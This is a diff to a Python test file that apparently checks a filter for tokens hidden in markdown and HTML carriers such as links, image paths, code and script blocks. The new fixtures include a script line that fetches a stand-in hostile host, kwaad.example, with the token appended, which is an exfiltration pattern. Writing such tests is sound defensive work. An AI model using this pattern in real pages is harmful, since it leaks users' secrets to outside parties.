@@ -163,10 +163,14 @@ def test_an_empty_text_misses_everything(text: str) -> None:
         ("[klik hier](https://kwaad.example/{})", "url"),
         ("[klik](/pad/{})", "link_target"),
         ("![foto](beeld/{}.png)", "link_target"),
+        ("![foto](<beeld/?q= {}>)", "link_target"),
         ("[1]: /pad/{}", "link_target"),
+        ("[1]: <//kwaad.example/?q= {}>", "link_target"),
         ('<img src="x" alt="{}">', "attribute"),
         ("gebruik `print({})` daarvoor", "code"),
         ("```python\nx = '{}'\n```", "code"),
+        ("<script>\nx = '{}'\nfetch('//kwaad.example/' + x)\n</script>", "code"),
+        ("<STYLE>p {{ background: '{}'", "code"),
     ],
 )
 def test_a_token_in_a_carrier_blocks(around: str, code: str) -> None:
@@ -185,6 +189,9 @@ def test_a_token_in_a_carrier_blocks(around: str, code: str) -> None:
         "```\n{}\n```",
         '```json\n["{}"]\n```',
         "[{}](https://a.example)",
+        "[zie](<a b>) {}",
+        "[1]: <a b> {}",
+        "<script>x()</script> {}",
         "> {}",
     ],
 )
